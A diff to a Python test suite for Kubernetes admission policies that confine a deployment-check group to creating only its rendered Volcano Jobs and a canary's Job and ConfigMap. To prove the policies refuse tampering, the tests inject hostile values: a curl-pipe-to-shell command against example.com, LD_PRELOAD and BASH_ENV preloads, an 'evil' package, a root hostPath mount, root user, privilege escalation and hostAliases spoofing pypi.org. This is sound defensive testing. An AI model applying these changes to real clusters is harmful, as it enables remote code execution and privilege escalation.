@@ -1,13 +1,18 @@
-"""The deployment check's fence: its group may create only the rendered fabric-check Jobs.
+"""The deployment check's fence: its group may create only the rendered fabric-check Jobs and, with
+the pipeline's canary, the canary's rendered Job and ConfigMap.
 
-RBAC gives the check ``create`` on every Volcano Job in the platform namespace; the admission
-policy of k8s_charts/deployment_check_rbac.py is what narrows it. Its CEL runs here (tests/admission.py)
-on the Job the synth renders for the pipeline, and on that Job changed one field at a time.
+RBAC gives the check ``create`` on every Volcano Job in the platform namespace (and, for the canary,
+on every Volcano Job and ConfigMap of its team's namespace); the admission policies of
+k8s_charts/deployment_check_rbac.py are what narrow it. Their CEL runs here (tests/admission.py) on
+the objects the synth renders, as Volcano's webhook writes them back, and on them changed one field
+at a time.
 """
 
 from __future__ import annotations
 
 import copy
+import functools
+import json
 from collections.abc import Callable
 from typing import Any
 
@@ -16,9 +21,18 @@ import yaml
 
 from cluster_facts.kubernetes_names import DEPLOYMENT_CHECK_GROUP, PLATFORM_NAMESPACE
 from config import StackConfig, parse_config
-from k8s_charts.deployment_check_rbac import DeploymentCheckRbacChart, fabric_check_job, job_fence_name
+from k8s_charts.deployment_check_rbac import (
+    DeploymentCheckRbacChart,
+    canary_access,
+    cel_literal,
+    config_map_fence_name,
+    fabric_check_job,
+    job_fence_name,
+)
+from k8s_charts.tensorboard import SERVICE_PROXY_NAME
+from stacks.canary_run import canary_manifests, canary_run
 from stacks.fabric_check_commands import pipeline_fabric_check_manifests
-from tests.admission import Decision, admission_request, admit
+from tests.admission import Decision, admission_request, admit, evaluate
 from tests.conftest import REPO_ROOT
 from tests.k8s.manifests import synth
 from tests.k8s_validation import assert_valid
@@ -84,12 +98,18 @@ def decide(
 
 def as_volcano_defaults_it(job: Manifest) -> Manifest:
     """What Volcano's mutating webhook (v1.15.1 mutate_job.go) writes before validation runs: the
-    tasks re-marshalled with minAvailable and maxRetry, and the job's maxRetry."""
+    tasks re-marshalled with minAvailable and maxRetry, and the job's maxRetry. The write-back goes
+    through Go's types, whose ``omitempty`` drops an environment variable's empty value."""
     job = copy.deepcopy(job)
     job["spec"].setdefault("maxRetry", 3)
     for task in job["spec"]["tasks"]:
         task.setdefault("minAvailable", task["replicas"])
         task.setdefault("maxRetry", 3)
+        spec = task["template"]["spec"]
+        for container in [*spec.get("initContainers", []), *spec.get("containers", [])]:
+            for variable in container.get("env", []):
+                if variable.get("value") == "":
+                    del variable["value"]
     return job
 
 
@@ -117,6 +137,18 @@ def test_the_fence_admits_the_rendered_fabric_check_job(taint: bool) -> None:
     assert facts.images == (job["spec"]["tasks"][0]["template"]["spec"]["containers"][0]["image"],)
     assert facts.service_accounts == (("fabric-check-trn1-32xl",) if taint else ())
     assert facts.capabilities == ()
+
+
+def test_a_rendered_job_with_empty_environment_values_is_admitted_as_volcano_writes_it_back() -> None:
+    """The canary's run has empty values (REQUIRED_MARKERS, PYTHON_REQUIREMENTS, ...): the fence
+    compares them as absent, so the Job admitted is the one Volcano's write-back leaves."""
+    manifests, _, job = canary_rendered()
+    written_back = as_volcano_defaults_it(job)
+    [container] = written_back["spec"]["tasks"][0]["template"]["spec"]["containers"]
+    assert {"name": "PYTHON_REQUIREMENTS"} in container["env"]
+    assert decide_job(manifests, written_back, namespace=CANARY_NAMESPACE) == Decision(
+        matched=True, allowed=True
+    )
 
 
 def test_the_fence_is_in_place_before_the_role_that_grants_create(
@@ -207,25 +239,107 @@ def default_token(job: Manifest) -> None:
     _pods(job)[0]["automountServiceAccountToken"] = True
 
 
-FORBIDDEN: dict[str, tuple[Callable[[Manifest], None], str]] = {
-    "another name": (renamed, "a Volcano Job named fabric-check-trn1-32xl"),
-    "another image": (other_image, "every container's image one of the check's"),
-    "an init container of another image": (init_container, "every container's image one of the check's"),
-    "a hostPath volume": (host_path, "no volume"),
-    "a Secret volume": (secret_volume, "no volume"),
-    "a Job volume": (job_volume, "no volume"),
-    "privileged": (privileged, "no privileged container"),
-    "an added capability": (capability, "no privileged container"),
-    "hostNetwork": (host_network, "no host network"),
-    "hostPID": (host_pid, "no host network"),
-    "a Secret in the environment": (secret_env, "no Secret in a container's environment"),
-    "another service account": (other_service_account, "no service account but the check's own"),
-    "the deprecated serviceAccount field": (
-        deprecated_service_account,
-        "no service account but the check's own",
+def other_command(job: Manifest) -> None:
+    _worker(job)["command"] = ["/bin/sh", "-c", "curl -s https://example.com/x | sh"]
+
+
+def other_environment(job: Manifest) -> None:
+    _worker(job)["env"].append({"name": "LD_PRELOAD", "value": "/data/x.so"})
+
+
+NAME = "a Volcano Job named"
+IMAGE_ONLY = "every container's image one of the check's"
+VOLUME = "no volume but the rendered Job's own"
+AS_RENDERED = "each task's pod and containers as rendered"
+PRIVILEGE = "no privileged container"
+HOST = "no host network"
+SECRET = "no Secret in a container's environment"
+IDENTITY = "no service account but the check's own"
+QUEUE = "its own queue"
+PRIORITY = "the rendered priority class"
+NODES = "the rendered node group"
+RUNTIME = "no runtime class or host aliases"
+LABELS = "the rendered labels"
+TASKS = "the rendered tasks and replicas"
+# Each change and every reason the fence gives for refusing it: the rule it breaks first, and the
+# pins that hold every field of the rendered Job besides.
+FORBIDDEN: dict[str, tuple[Callable[[Manifest], None], tuple[str, ...]]] = {
+    "another name": (
+        renamed,
+        # Every value is looked up by the Job's name: another name has none of them.
+        (
+            *(NAME, "in the named Job's namespace", IMAGE_ONLY, VOLUME, AS_RENDERED, IDENTITY),
+            *(QUEUE, NODES, LABELS, TASKS),
+        ),
     ),
-    "the default service account's token": (default_token, "no service account but the check's own"),
+    "another image": (other_image, (IMAGE_ONLY,)),
+    "an init container of another image": (init_container, (IMAGE_ONLY, AS_RENDERED)),
+    "a hostPath volume": (host_path, (VOLUME, AS_RENDERED)),
+    "a Secret volume": (secret_volume, (VOLUME,)),
+    "a Job volume": (job_volume, (VOLUME,)),
+    "privileged": (privileged, (AS_RENDERED, PRIVILEGE)),
+    "an added capability": (capability, (AS_RENDERED, PRIVILEGE)),
+    "hostNetwork": (host_network, (HOST,)),
+    "hostPID": (host_pid, (HOST,)),
+    "a Secret in the environment": (secret_env, (AS_RENDERED, SECRET)),
+    "another command": (other_command, (AS_RENDERED,)),
+    "another environment variable": (other_environment, (AS_RENDERED,)),
+    "another service account": (other_service_account, (IDENTITY,)),
+    "the deprecated serviceAccount field": (deprecated_service_account, (IDENTITY,)),
+    "the default service account's token": (default_token, (IDENTITY,)),
+    "another queue": (lambda j: j["spec"].__setitem__("queue", "research"), (QUEUE,)),
+    "Volcano's default queue": (lambda j: j["spec"].__setitem__("queue", "default"), (QUEUE,)),
+    "a priority class": (
+        lambda j: j["spec"].__setitem__("priorityClassName", "system-node-critical"),
+        (PRIORITY,),
+    ),
+    "a task's priority class": (
+        lambda j: _pods(j)[0].__setitem__("priorityClassName", "system-cluster-critical"),
+        (PRIORITY,),
+    ),
+    "nodeName": (
+        lambda j: _pods(j)[0].__setitem__("nodeName", "ip-10-0-0-1.ec2.internal"),
+        (NODES,),
+    ),
+    "another node selector": (
+        lambda j: _pods(j)[1].__setitem__("nodeSelector", {"topology.kubernetes.io/zone": "us-west-2a"}),
+        (NODES,),
+    ),
+    "another toleration": (
+        lambda j: _pods(j)[0]["tolerations"].append({"operator": "Exists"}),
+        (NODES,),
+    ),
+    "node affinity": (
+        lambda j: _pods(j)[0].__setitem__("affinity", {"nodeAffinity": {}}),
+        (NODES,),
+    ),
+    "a runtime class": (
+        lambda j: _pods(j)[0].__setitem__("runtimeClassName", "runc-host"),
+        (RUNTIME,),
+    ),
+    "host aliases": (
+        lambda j: _pods(j)[1].__setitem__("hostAliases", [{"ip": "10.0.0.1", "hostnames": ["pypi.org"]}]),
+        (RUNTIME,),
+    ),
+    "an extra Job label": (
+        lambda j: j["metadata"]["labels"].__setitem__("volcano.sh/job-name", "x"),
+        (LABELS,),
+    ),
+    "an extra pod label": (
+        lambda j: j["spec"]["tasks"][0]["template"]["metadata"]["labels"].__setitem__("k8s-app", "kube-dns"),
+        (LABELS,),
+    ),
+    "more replicas": (
+        lambda j: j["spec"]["tasks"][0].__setitem__("replicas", 64),
+        (TASKS,),
+    ),
+    "another minAvailable": (
+        lambda j: j["spec"].__setitem__("minAvailable", 1),
+        (TASKS,),
+    ),
+    "a task fewer": (lambda j: j["spec"]["tasks"].pop(), (TASKS,)),
 }
+PREFIX = f"{DEPLOYMENT_CHECK_GROUP} may only create the rendered fabric checks and canary: "
 
 
 @pytest.mark.parametrize("operation", ["CREATE", "UPDATE"])
@@ -234,18 +348,15 @@ def test_the_fence_refuses_anything_but_the_rendered_job(
     tainting: tuple[list[Manifest], Manifest], case: str, operation: str
 ) -> None:
     manifests, job = tainting
-    change, message = FORBIDDEN[case]
+    change, messages = FORBIDDEN[case]
     changed = as_volcano_defaults_it(job)
     change(changed)
     assert_valid([changed])
     decision = decide(manifests, changed, operation=operation)
     assert decision.matched and not decision.allowed
-    # Refused for that reason, and (but for the name: the images and identity allowed are the
-    # named Job's) only that one.
-    assert decision.messages[0].startswith(
-        f"{DEPLOYMENT_CHECK_GROUP} may only create the fabric checks: {message}"
-    )
-    assert len(decision.messages) == (3 if change is renamed else 1), decision.messages
+    assert len(decision.messages) == len(messages), decision.messages
+    for given, expected in zip(decision.messages, messages, strict=True):
+        assert given.startswith(PREFIX + expected), (given, expected)
 
 
 def test_the_fence_refuses_another_namespace(tainting: tuple[list[Manifest], Manifest]) -> None:
@@ -254,7 +365,7 @@ def test_the_fence_refuses_another_namespace(tainting: tuple[list[Manifest], Man
     elsewhere["metadata"]["namespace"] = "team-a"
     decision = decide(manifests, elsewhere, namespace="team-a")
     assert decision.messages == (
-        f"{DEPLOYMENT_CHECK_GROUP} may only create the fabric checks: in namespace {PLATFORM_NAMESPACE}",
+        PREFIX + f"in the named Job's namespace (fabric-check-trn1-32xl in {PLATFORM_NAMESPACE})",
     )
 
 
@@ -272,3 +383,323 @@ def test_the_fence_applies_only_to_the_deployment_checks_group(
 def test_the_fence_refuses_a_job_that_is_not_a_volcano_job() -> None:
     with pytest.raises(ValueError, match="is not a Volcano Job"):
         fabric_check_job({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "x"}, "spec": {}})
+
+
+# --- The pipeline's canary: its rendered Job and ConfigMap, in its team's namespace ---------------------------
+
+CANARY_CONFIG = fabric_config(taint=True)
+CANARY_RUN = canary_run(CANARY_CONFIG)
+CANARY_NAMESPACE = CANARY_RUN.namespace
+
+
+@functools.cache
+def _canary_rendered() -> tuple[tuple[Manifest, ...], str, str]:
+    """The chart as the stack builds it with both the fabric check and the canary, and the canary's
+    ConfigMap and Job (JSON, so each test gets its own copy)."""
+    _, objects = canary_manifests(CANARY_RUN)
+    [job] = pipeline_fabric_check_manifests(CANARY_CONFIG, shared_review_plan(CANARY_CONFIG))
+    manifests = synth(
+        lambda app: DeploymentCheckRbacChart(
+            app,
+            "rbac",
+            group=DEPLOYMENT_CHECK_GROUP,
+            fabric_check_jobs=[fabric_check_job(job)],
+            fabric_check_namespace=PLATFORM_NAMESPACE,
+            canary=canary_access(
+                objects, tensorboard_namespace=PLATFORM_NAMESPACE, tensorboard_proxy=SERVICE_PROXY_NAME
+            ),
+        )
+    )
+    config_map, canary_job = objects
+    return tuple(manifests), json.dumps(config_map), json.dumps(canary_job)
+
+
+def canary_rendered() -> tuple[list[Manifest], Manifest, Manifest]:
+    manifests, config_map, job = _canary_rendered()
+    return copy.deepcopy(list(manifests)), json.loads(config_map), json.loads(job)
+
+
+def decide_config_map(
+    manifests: list[Manifest],
+    config_map: Manifest,
+    *,
+    namespace: str = CANARY_NAMESPACE,
+    groups: tuple[str, ...] = (DEPLOYMENT_CHECK_GROUP,),
+    operation: str = "CREATE",
+) -> Decision:
+    request = admission_request(
+        user=CHECK_USER,
+        operation=operation,
+        resource="configmaps",
+        name=config_map["metadata"]["name"],
+        namespace=namespace,
+        kind="ConfigMap",
+        group="",
+        version="v1",
+        groups=groups,
+    )
+    policies = [
+        m
+        for m in manifests
+        if m["kind"].startswith("ValidatingAdmissionPolicy")
+        and m["metadata"]["name"] == config_map_fence_name(DEPLOYMENT_CHECK_GROUP)
+    ]
+    return admit(policies, request, obj=config_map, old=config_map if operation == "UPDATE" else None)
+
+
+def decide_job(
+    manifests: list[Manifest], job: Manifest, *, namespace: str, operation: str = "CREATE"
+) -> Decision:
+    policies = [
+        m for m in fence(manifests) if m["metadata"]["name"] == job_fence_name(DEPLOYMENT_CHECK_GROUP)
+    ]
+    return decide(policies, job, namespace=namespace, operation=operation)
+
+
+def test_the_fences_admit_the_canarys_rendered_job_and_config_map_beside_the_fabric_check() -> None:
+    manifests, config_map, job = canary_rendered()
+    assert_valid(manifests)
+    for operation in ("CREATE", "UPDATE"):
+        for candidate in (job, as_volcano_defaults_it(job)):
+            decision = decide_job(manifests, candidate, namespace=CANARY_NAMESPACE, operation=operation)
+            assert decision == Decision(matched=True, allowed=True), decision.messages
+        decision = decide_config_map(manifests, config_map, operation=operation)
+        assert decision == Decision(matched=True, allowed=True), decision.messages
+    # The fabric check is still admitted, in its own namespace only; the canary in its own only.
+    [fabric] = pipeline_fabric_check_manifests(CANARY_CONFIG, shared_review_plan(CANARY_CONFIG))
+    assert decide_job(manifests, as_volcano_defaults_it(dict(fabric)), namespace=PLATFORM_NAMESPACE).allowed
+    moved = copy.deepcopy(dict(fabric))
+    moved["metadata"]["namespace"] = CANARY_NAMESPACE
+    assert not decide_job(manifests, moved, namespace=CANARY_NAMESPACE).allowed
+    moved = copy.deepcopy(job)
+    moved["metadata"]["namespace"] = PLATFORM_NAMESPACE
+    assert not decide_job(manifests, moved, namespace=PLATFORM_NAMESPACE).allowed
+
+
+def _canary_container(job: Manifest) -> Manifest:
+    [container] = job["spec"]["tasks"][0]["template"]["spec"]["containers"]
+    return container
+
+
+def _set_env(job: Manifest, name: str, value: str) -> None:
+    for variable in _canary_container(job)["env"]:
+        if variable["name"] == name:
+            variable["value"] = value
+
+
+def _canary_pod(job: Manifest) -> Manifest:
+    return job["spec"]["tasks"][0]["template"]["spec"]
+
+
+CANARY_FORBIDDEN: dict[str, Callable[[Manifest], None]] = {
+    # Code: the pod script, the program's hash, packages from PyPI, what bash or Python load first.
+    "another command": lambda job: _canary_container(job).update(command=["/bin/bash", "-c", "id"]),
+    "other arguments": lambda job: _canary_container(job)["args"].__setitem__(-1, "/data/mine.py"),
+    "another program hash": lambda job: _set_env(
+        job, "VERIFY_FILES", "0" * 64 + "  /opt/run/program/canary_worker.py"
+    ),
+    "packages to install": lambda job: _set_env(
+        job, "PYTHON_REQUIREMENTS", "evil==1.0 --hash=sha256:" + "0" * 64
+    ),
+    "an added environment variable": lambda job: _canary_container(job)["env"].append(
+        {"name": "BASH_ENV", "value": "/data/x.sh"}
+    ),
+    # Data and identity: another claim, root, the node's files.
+    "another team's claim": lambda job: _canary_pod(job)["volumes"][0]["persistentVolumeClaim"].update(
+        claimName="fsx-other"
+    ),
+    "the data sets writable": lambda job: _canary_pod(job)["volumes"][1]["persistentVolumeClaim"].pop(
+        "readOnly"
+    ),
+    "root": lambda job: _canary_pod(job)["securityContext"].update(runAsUser=0, runAsNonRoot=False),
+    "a hostPath volume": lambda job: _canary_pod(job)["volumes"].append(
+        {"name": "root", "hostPath": {"path": "/"}}
+    ),
+    "another mount": lambda job: _canary_container(job)["volumeMounts"].append(
+        {"name": "data", "mountPath": "/opt/run/program/x"}
+    ),
+    "privilege escalation": lambda job: _canary_container(job)["securityContext"].update(
+        allowPrivilegeEscalation=True
+    ),
+}
+
+
+@pytest.mark.parametrize("case", list(CANARY_FORBIDDEN))
+def test_the_fence_refuses_every_variant_of_the_canarys_job(case: str) -> None:
+    manifests, _, job = canary_rendered()
+    changed = as_volcano_defaults_it(job)
+    CANARY_FORBIDDEN[case](changed)
+    assert_valid([changed])
+    decision = decide_job(manifests, changed, namespace=CANARY_NAMESPACE)
+    assert decision.matched and not decision.allowed
+    assert any(message.startswith(PREFIX) for message in decision.messages), decision.messages
+
+
+def _canary_tolerations(job: Manifest) -> list[Manifest]:
+    tolerations: list[Manifest] = _canary_pod(job)["tolerations"]
+    return tolerations
+
+
+# The fabric check's pins hold the canary's Job too: its queue, priority class, node group (its
+# tolerations exactly, tolerationSeconds included), labels and size, each refused with its one reason.
+CANARY_PLACEMENT: dict[str, tuple[Callable[[Manifest], None], str]] = {
+    "another queue": (lambda job: job["spec"].update(queue="default"), QUEUE),
+    "another priority class": (
+        lambda job: job["spec"].update(priorityClassName="system-node-critical"),
+        PRIORITY,
+    ),
+    "another node group": (
+        lambda job: _canary_pod(job)["nodeSelector"].update({"trainium/node-group": "other"}),
+        NODES,
+    ),
+    "not-ready nodes tolerated for ever": (
+        lambda job: [t.pop("tolerationSeconds", None) for t in _canary_tolerations(job)],
+        NODES,
+    ),
+    "not-ready nodes tolerated longer": (
+        lambda job: [
+            t.update(tolerationSeconds=86400) for t in _canary_tolerations(job) if "tolerationSeconds" in t
+        ],
+        NODES,
+    ),
+    "an extra pod label": (
+        lambda job: job["spec"]["tasks"][0]["template"]["metadata"]["labels"].update({"k8s-app": "kube-dns"}),
+        LABELS,
+    ),
+    "more replicas": (lambda job: job["spec"]["tasks"][0].update(replicas=8), TASKS),
+}
+
+
+@pytest.mark.parametrize("case", list(CANARY_PLACEMENT))
+def test_the_fence_holds_the_canarys_queue_priority_node_group_labels_and_size(case: str) -> None:
+    manifests, _, job = canary_rendered()
+    change, message = CANARY_PLACEMENT[case]
+    changed = as_volcano_defaults_it(job)
+    change(changed)
+    assert_valid([changed])
+    decision = decide_job(manifests, changed, namespace=CANARY_NAMESPACE)
+    assert decision.matched and not decision.allowed
+    assert len(decision.messages) == 1 and decision.messages[0].startswith(PREFIX + message), (
+        decision.messages
+    )
+
+
+@pytest.mark.parametrize(
+    ("case", "change", "namespace", "message"),
+    [
+        pytest.param(
+            "another program",
+            lambda cm: cm["data"].update({"canary_worker.py": "import os; os.system('id')\n"}),
+            CANARY_NAMESPACE,
+            "exactly its rendered data",
+            id="another-program",
+        ),
+        pytest.param(
+            "another file",
+            lambda cm: cm["data"].update({"sitecustomize.py": "import os\n"}),
+            CANARY_NAMESPACE,
+            "exactly its rendered data",
+            id="another-file",
+        ),
+        pytest.param(
+            "binary data",
+            lambda cm: cm.update(binaryData={"x": "AA=="}),
+            CANARY_NAMESPACE,
+            "exactly",
+            id="binary",
+        ),
+        pytest.param(
+            "another name",
+            lambda cm: cm["metadata"].update(name="other-program"),
+            CANARY_NAMESPACE,
+            "the ConfigMap",
+            id="another-name",
+        ),
+        pytest.param(
+            "another namespace",
+            lambda cm: cm["metadata"].update(namespace=PLATFORM_NAMESPACE),
+            PLATFORM_NAMESPACE,
+            "the ConfigMap",
+            id="another-namespace",
+        ),
+    ],
+)
+def test_the_config_map_fence_admits_only_the_canarys_program(
+    case: str, change: Callable[[Manifest], None], namespace: str, message: str
+) -> None:
+    manifests, config_map, _ = canary_rendered()
+    change(config_map)
+    decision = decide_config_map(manifests, config_map, namespace=namespace)
+    assert decision.matched and not decision.allowed, case
+    assert decision.messages[0].startswith(
+        f"{DEPLOYMENT_CHECK_GROUP} may only create the canary's rendered ConfigMap: {message}"
+    ), decision.messages
+    # Nobody else's ConfigMaps are the fence's business.
+    assert decide_config_map(
+        manifests, config_map, namespace=namespace, groups=("team-a-members",)
+    ) == Decision(matched=False, allowed=True)
+
+
+def test_the_canarys_roles_grant_what_the_canary_calls_and_follow_the_fences() -> None:
+    manifests, config_map, job = canary_rendered()
+    kinds = [m["kind"] for m in manifests]
+    roles = {
+        (m["metadata"]["namespace"], m["metadata"]["name"]): m["rules"]
+        for m in manifests
+        if m["kind"] == "Role" and m["metadata"]["name"].endswith("-canary")
+    }
+    name = f"{DEPLOYMENT_CHECK_GROUP}-canary"
+    run_id = job["metadata"]["name"]
+    assert roles == {
+        (CANARY_NAMESPACE, name): [
+            {"apiGroups": ["batch.volcano.sh"], "resources": ["jobs"], "verbs": ["create"]},
+            {
+                "apiGroups": ["batch.volcano.sh"],
+                "resources": ["jobs"],
+                "resourceNames": [run_id],
+                "verbs": ["get", "delete"],
+            },
+            {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create"]},
+            {
+                "apiGroups": [""],
+                "resources": ["configmaps"],
+                "resourceNames": [config_map["metadata"]["name"]],
+                "verbs": ["delete"],
+            },
+            {"apiGroups": [""], "resources": ["pods", "events"], "verbs": ["list"]},
+            {
+                "apiGroups": [""],
+                "resources": ["pods/log"],
+                "resourceNames": [f"{run_id}-worker-0", f"{run_id}-worker-1"],
+                "verbs": ["get"],
+            },
+        ],
+        (PLATFORM_NAMESPACE, name): [
+            {
+                "apiGroups": [""],
+                "resources": ["services/proxy"],
+                "resourceNames": ["tensorboard:6006"],
+                "verbs": ["get"],
+            }
+        ],
+    }
+    # Both fences come before any Role that grants create.
+    first_role = min(i for i, m in enumerate(manifests) if m["kind"] == "Role" and "create" in json.dumps(m))
+    policies = [i for i, m in enumerate(manifests) if m["kind"].startswith("ValidatingAdmissionPolicy")]
+    assert len(policies) == 4 and max(policies) < first_role, kinds
+    bindings = [m for m in manifests if m["kind"] == "RoleBinding" and m["metadata"]["name"] == name]
+    assert {b["metadata"]["namespace"] for b in bindings} == {CANARY_NAMESPACE, PLATFORM_NAMESPACE}
+    assert all(
+        b["subjects"]
+        == [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": DEPLOYMENT_CHECK_GROUP}]
+        for b in bindings
+    )
+
+
+def test_cel_literals_hold_any_text_and_mixed_types() -> None:
+    """The pinned pod script and the program are long texts with quotes, backslashes and newlines;
+    the pins mix lists, maps, strings and numbers (each element dyn, as cel-go's checker needs)."""
+    text = "a \"quoted\" \\ back\nslash\t'single' \x01 ü"
+    value = {"text": text, "list": [1, "x", {"k": True}], "none": None}
+    assert evaluate(f"{cel_literal(value)} == object", {"object": value}) is True
+    assert evaluate(f"{cel_literal(text)} == object", {"object": text + "!"}) is False
